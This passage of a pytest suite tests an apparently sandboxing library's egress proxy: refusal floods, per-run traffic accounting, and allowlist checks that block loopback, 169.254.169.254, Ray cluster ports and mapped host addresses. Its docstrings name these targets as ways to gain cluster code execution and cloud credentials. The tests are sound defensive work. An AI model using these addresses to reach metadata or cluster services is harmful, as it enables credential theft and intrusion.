        assert result.violation_counts["network_egress"] == answered + 20 == sum(said)
        assert answered > 500, out  # a flood: each answer a refusal
        # A message a window (20 ms apart for the junk at most, 2 s of flood), not one per refusal.
        assert len(said) <= 20 + 2 * 2.0 / REFUSAL_WINDOW_S + 5, len(said)
        assert said[0] == 1  # the first, at once
        if int(out["sent"]) > 2 * ADMIT_BURST + 2 * ADMIT_PER_S:  # type: ignore[call-overload]
            assert result.egress_requests_dropped > 0 and answered < int(out["sent"])  # type: ignore[call-overload]
        junk = [r for r in result.egress_requests if r.method == "?"]  # type: ignore[attr-defined]
        assert junk and "not an HTTP request" in junk[0].reason


def test_a_runs_egress_account_is_taken_off_the_event_loop(
    up: Upstreams, manager: RuntimeManager, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A daemon's loop serves every caller: the worker's account of a run (a round trip to a process
    the isolate's flood may keep busy) must not hold it. Here the account is answered only once the
    loop has run something else: taken on the loop, it would wait out its 20 s and say so."""
    import asyncio
    import threading

    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        isolate = sb._sandbox
        assert isolate.egress is not None
        asking, answered_by_loop = threading.Event(), threading.Event()
        loop_ran: list[bool] = []
        real_take = isolate.egress.take

        def slow_take() -> tuple[list[EgressRequest], int]:
            asking.set()
            loop_ran.append(answered_by_loop.wait(20))
            return real_take()

        monkeypatch.setattr(isolate.egress, "take", slow_take)

        async def main() -> object:
            async def answer_when_asked() -> None:
                while not asking.is_set():
                    await asyncio.sleep(0.01)
                answered_by_loop.set()

            helper = asyncio.create_task(answer_when_asked())
            result = await isolate.arun_code(FETCH + f"print(fetch('http://other.stockade.test:{up.http.port}/')[0])")
            await helper
            return result

        result = asyncio.run(main())
    assert loop_ran == [True], "the egress account was taken on the event loop"
    assert result.stdout.strip() == "403"  # type: ignore[attr-defined]
    assert [r.host for r in result.egress_requests] == ["other.stockade.test"]  # type: ignore[attr-defined]


def test_an_allowed_host_that_cannot_be_reached_is_a_failure_not_a_violation(
    up: Upstreams, manager: RuntimeManager
) -> None:
    """The policy let it through; the host did not answer: said in the request's record, not
    reported as something the code tried that it may not (a false alarm for whoever reads them)."""
    import socket

    with socket.socket() as closed:  # a port nothing listens on
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    policy = allow(up, "api.stockade.test").replace(allowed_hosts=[f"api.stockade.test:{port}"])
    with Sandbox(policy, manager=manager) as sb:
        out, result = run(
            sb,
            f"""
print(json.dumps({{"down": via_proxy("http://api.stockade.test:{port}/"),
                   "tunnel": fetch("https://api.stockade.test:{port}/"),
                   "refused": via_proxy("http://elsewhere.stockade.test:{port}/")}}))
""",
        )
    assert out["down"][0] == 502 and "cannot connect to api.stockade.test" in out["down"][1]  # type: ignore[index]
    records = {(r.method, r.host): r for r in result.egress_requests}  # type: ignore[attr-defined]
    for method in ("GET", "CONNECT"):
        failed = records[(method, "api.stockade.test")]
        assert failed.allowed and "cannot connect to api.stockade.test" in failed.reason, failed
    assert not records[("GET", "elsewhere.stockade.test")].allowed
    # Only the request the policy refused is a violation.
    assert [v.description for v in result.security_violations] == [  # type: ignore[attr-defined]
        f"GET elsewhere.stockade.test:{port} refused: elsewhere.stockade.test:{port} is not in allowed_hosts"
    ]


def test_the_next_run_waits_for_the_last_ones_account(
    up: Upstreams, manager: RuntimeManager, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run given up while its account is taken (off the loop): the next one must not start before
    that account is, or it would take the next run's records and violations into a result nobody
    reads, and a refused request would vanish from every report."""
    import asyncio
    import time

    from stockade import AsyncSandbox

    async def main() -> object:
        async with AsyncSandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
            isolate = sb._held()
            real_take = isolate.egress.take  # type: ignore[attr-defined]

            def slow_take() -> tuple[list[EgressRequest], int]:
                time.sleep(2)  # the worker busy with the isolate's traffic, as its timeout allows
                return real_take()

            monkeypatch.setattr(isolate.egress, "take", slow_take)  # type: ignore[attr-defined]
            with pytest.raises(TimeoutError):
                await asyncio.wait_for(sb.run_code("print('A')"), 0.8)
            return await sb.run_code(FETCH + f"print(fetch('http://other.stockade.test:{up.http.port}/')[0])")

    result = asyncio.run(main())
    assert result.stdout.strip() == "403", result.summary()  # type: ignore[attr-defined]
    assert [(r.host, r.allowed) for r in result.egress_requests] == [("other.stockade.test", False)]  # type: ignore[attr-defined]
    assert result.violation_counts == {"network_egress": 1}  # type: ignore[attr-defined]


TUNNEL = (
    CONNECT.replace("{target}", "127.0.0.1:{port}")
    + r"""
assert head.startswith(b"HTTP/1.1 200"), head
s.sendall(b"\0" * {first})  # (no protocol's first bytes: not held as a request line that may be HTTP)
if {hold}:
    while not os.path.exists("/tmp/go"):
        time.sleep(0.01)
    s.sendall(b"\1" * {later})
s.close()
"""
)


def test_a_tunnels_bytes_are_charged_to_the_run_that_moved_them(manager: RuntimeManager) -> None:
    """Before, a tunnel was recorded only once it closed: the run whose process sent through it
    and ended was charged nothing (the proxy still reading its last bytes as the account was
    taken) and the next run all of it; and a tunnel a background process held open was in no
    run's account."""
    import socket
    import threading
    import time

    got = [0]
    sink = socket.socket()
    sink.bind(("127.0.0.1", 0))
    sink.listen()

    def drain() -> None:
        while True:
            try:
                conn, _ = sink.accept()
            except OSError:
                return
            with conn:
                while data := conn.recv(1 << 16):
                    got[0] += len(data)

    threading.Thread(target=drain, daemon=True).start()
    port = sink.getsockname()[1]

    def received(total: int) -> None:
        deadline = time.monotonic() + 30
        while got[0] < total and time.monotonic() < deadline:
            time.sleep(0.01)
        assert got[0] == total

    def tunnels(result: object) -> list[tuple[int, bool]]:
        return [(r.bytes_sent, r.open) for r in result.egress_requests if r.method == "CONNECT"]  # type: ignore[attr-defined]

    policy = Policy(network_policy="allowlist", allowed_hosts=[f"127.0.0.1:{port}"], allowed_cidrs=["127.0.0.0/8"],
                    timeout_seconds=60)  # fmt: skip
    try:
        with Sandbox(policy, manager=manager) as sb:
            ran = sb.run_code(TUNNEL.format(port=port, first=1 << 20, hold=False, later=0))
            assert ran.exit_code == 0, ran.stderr
            assert tunnels(ran) == [(1 << 20, False)], ran.egress_requests  # all of it, in the run that sent it
            assert tunnels(sb.run_code("print(1)")) == []
            sb.write_file("/tmp/held.py", TUNNEL.format(port=port, first=100_000, hold=True, later=50_000))
            held = sb.spawn(["python3", "/tmp/held.py"])
            received((1 << 20) + 100_000)
            assert tunnels(sb.run_code("print(2)")) == [(100_000, True)]  # held open, beside this run
            sb.write_file("/tmp/go", "")
            assert held.wait(timeout=30) == 0
            received((1 << 20) + 150_000)
            assert tunnels(sb.run_code("print(3)")) == [(50_000, False)]  # the rest, once
    finally:
        sink.close()


def test_a_daemon_lets_its_callers_reach_no_private_network_unless_the_host_names_it(up: Upstreams) -> None:
    """Unset, STOCKADE_EGRESS_NETWORKS was any network for a daemon's callers too: a caller's
    policy naming 127.0.0.1:6379 had the proxy connect a sandbox to a Ray cluster's GCS (root on
    every node), or to 169.254.169.254. A process serving callers takes unset as none."""
    require("process")
    from stockade.client import Client
    from tests.daemon_harness import start_daemon

    env = {k: v for k, v in os.environ.items() if k.startswith("STOCKADE_EGRESS") and k != "STOCKADE_EGRESS_NETWORKS"}
    daemon = start_daemon(env=env)
    try:
        with Client(daemon.socket_path) as client:
            for fields in ({"allowed_cidrs": ["127.0.0.0/8"]}, {"allowed_hosts": [f"127.0.0.1:{up.http.port}"]},
                           {"allowed_hosts": ["169.254.169.254"]}, {"allowed_cidrs": ["10.0.0.0/8"]}):  # fmt: skip
                policy = Policy(network_policy="allowlist", **fields)  # type: ignore[arg-type]
                with pytest.raises(PolicyError, match=r"outside .* \(STOCKADE_EGRESS_NETWORKS unset: none for a"):
                    client.execute(["true"], policy=policy.to_dict())
            # Public names are a caller's to allow; one the host pins to its loopback is still refused.
            policy = Policy(network_policy="allowlist", allowed_hosts=[f"api.stockade.test:{up.http.port}"])
            code = FETCH + f'print(json.dumps({{"r": fetch("http://api.stockade.test:{up.http.port}/")}}))'
            result = client.execute(code=code, policy=policy.to_dict())
        assert result.exit_code == 0, result.stderr
        assert json.loads(result.stdout)["r"][0] == 403, result.stdout
        assert [(r.host, r.allowed) for r in result.egress_requests] == [("api.stockade.test", False)]
    finally:
        daemon.cleanup()


def test_an_address_of_the_hosts_own_is_no_public_address_for_an_allowlist() -> None:
    """A public address the host holds reaches what listens on every interface there (a Ray
    cluster's ports, sshd), as its loopback would: a name resolving to it is refused unless
    allowed_cidrs holds it, and a daemon's caller may name it only inside STOCKADE_EGRESS_NETWORKS.
    Checked in a network namespace of its own, holding a global address on its loopback."""
    if os.geteuid() != 0:
        pytest.skip("needs root: a network namespace holding an address of its own")
    script = """
import ipaddress, json, subprocess
from stockade import Policy
from stockade.egress.allowlist import Allowlist, host_address, parse_rule
from stockade.errors import PolicyError
from stockade.runtimes.egress import check_networks
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
subprocess.run(["ip", "addr", "add", "1.2.3.4/32", "dev", "lo"], check=True)
own, other = ipaddress.ip_address("1.2.3.4"), ipaddress.ip_address("1.2.3.5")
rule = parse_rule("api.test")
def named(networks):
    try:
        check_networks(Policy(network_policy="allowlist", allowed_hosts=["1.2.3.4:22"]), networks)
        return "allowed"
    except PolicyError as exc:
        return str(exc)
print(json.dumps({
    "own": host_address(own), "other": host_address(other), "loopback": host_address(ipaddress.ip_address("::1")),
    "usable": [str(a) for a in Allowlist(["api.test"]).usable(rule, [own, other])],
    "nat64": [str(a) for a in Allowlist(["api.test"]).usable(rule, [ipaddress.ip_address("64:ff9b::102:304")])],
    "in_cidrs": [str(a) for a in Allowlist(["api.test"], ["1.2.3.4/32"]).usable(rule, [own])],
    "named_none": named(()), "named_inside": named(("1.2.3.0/24",)), "named_library": named(None),
}))
"""
    done = subprocess.run(["unshare", "--net", sys.executable, "-c", script], capture_output=True, text=True,
                          timeout=60)  # fmt: skip
    assert done.returncode == 0, done.stderr
    seen = json.loads(done.stdout)
    assert (seen["own"], seen["other"], seen["loopback"]) == (True, False, True)
    assert seen["usable"] == ["1.2.3.5"] and seen["in_cidrs"] == ["1.2.3.4"]
    assert seen["nat64"] == []  # the host's own, carried in an IPv6 address
    assert "allowed_hosts 1.2.3.4:22 is outside the networks" in seen["named_none"]
    assert seen["named_inside"] == seen["named_library"] == "allowed"


def test_a_host_that_names_its_networks_lets_no_policy_reach_past_them(
    up: Upstreams, manager: RuntimeManager, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The proxy connects from the host's network: a caller's policy that named 127.0.0.0/8 or the
    metadata address reached the daemon's own ports, other sandboxes' published ones and the
    cloud's credentials. STOCKADE_EGRESS_NETWORKS bounds what any policy may name."""
    from stockade.errors import ConfigError
    from stockade.settings import current

    monkeypatch.setenv("STOCKADE_EGRESS_NETWORKS", "10.0.0.0/8")
    for fields in ({"allowed_cidrs": ["127.0.0.0/8"]}, {"allowed_cidrs": ["10.0.0.0/7"]},
                   {"allowed_hosts": ["169.254.169.254"]}, {"allowed_hosts": ["[::1]:80"]}):  # fmt: skip
        policy = Policy(network_policy="allowlist", **fields)  # type: ignore[arg-type]
        with pytest.raises(PolicyError, match=r"outside the networks .* \(STOCKADE_EGRESS_NETWORKS=10.0.0.0/8\)"):
            Sandbox(policy, manager=manager)
    with Sandbox(Policy(network_policy="allowlist", allowed_cidrs=["10.1.0.0/16"], allowed_hosts=["8.8.8.8:53",
                                                                                              "10.2.3.4"]),
                 manager=manager) as sb:  # fmt: skip
        assert sb.exec(["true"]).exit_code == 0
    monkeypatch.setenv("STOCKADE_EGRESS_NETWORKS", "127.0.0.0/8")  # what the harness's upstreams need
    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        out, _ = run(sb, f'print(json.dumps({{"r": fetch("http://api.stockade.test:{up.http.port}/")}}))')
    assert out["r"][0] == 200  # type: ignore[index]
    monkeypatch.setenv("STOCKADE_EGRESS_NETWORKS", "127.0.0.1")  # a network's text, an address
    assert current().egress_networks == ("127.0.0.1/32",)
    monkeypatch.setenv("STOCKADE_EGRESS_NETWORKS", "none, 10/8")
    with pytest.raises(ConfigError, match="STOCKADE_EGRESS_NETWORKS entry 'none' is not a network"):
        current()


def test_a_clusters_machines_are_not_reached_whatever_the_allow_list_says(
    up: Upstreams, manager: RuntimeManager, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A Ray node's proxy reached another node's public address, named by a caller's allow-list: its
    # dashboard's job API, its GCS (code on every node). The node's actor names the cluster's machines
    # (refuse_peers); its isolates' workers refuse them, however named, and its policy check too.
    import ipaddress

    from stockade.egress import allowlist
    from stockade.runtimes.egress import check_networks

    url = f"http://api.stockade.test:{up.http.port}/echo"
    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        out, _ = run(sb, f"print(json.dumps(fetch({url!r})))")
        assert out[0] == 200, out  # type: ignore[index]
    monkeypatch.setattr(allowlist, "_peers", frozenset({ipaddress.ip_address("127.0.0.1")}))
    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        out, result = run(sb, f"print(json.dumps(fetch({url!r})))")
        assert out[0] != 200, out  # type: ignore[index]
        assert any(not r.allowed for r in result.egress_requests), result.egress_requests  # type: ignore[attr-defined]
    peer = Policy(network_policy="allowlist", allowed_hosts=["1.2.3.4:8265"])  # a public address: a node's
    monkeypatch.setattr(allowlist, "_peers", frozenset({ipaddress.ip_address("1.2.3.4")}))
    with pytest.raises(PolicyError, match=r"allowed_hosts 1\.2\.3\.4:8265 is outside the networks"):
        check_networks(peer, ())
    rule = allowlist.parse_rule("api.example.com")
    mapped = ipaddress.ip_address("::ffff:1.2.3.4")
    other = ipaddress.ip_address("5.6.7.8")
    assert allowlist.Allowlist(["api.example.com"], refused=["1.2.3.4"]).usable(rule, [mapped, other]) == [other]
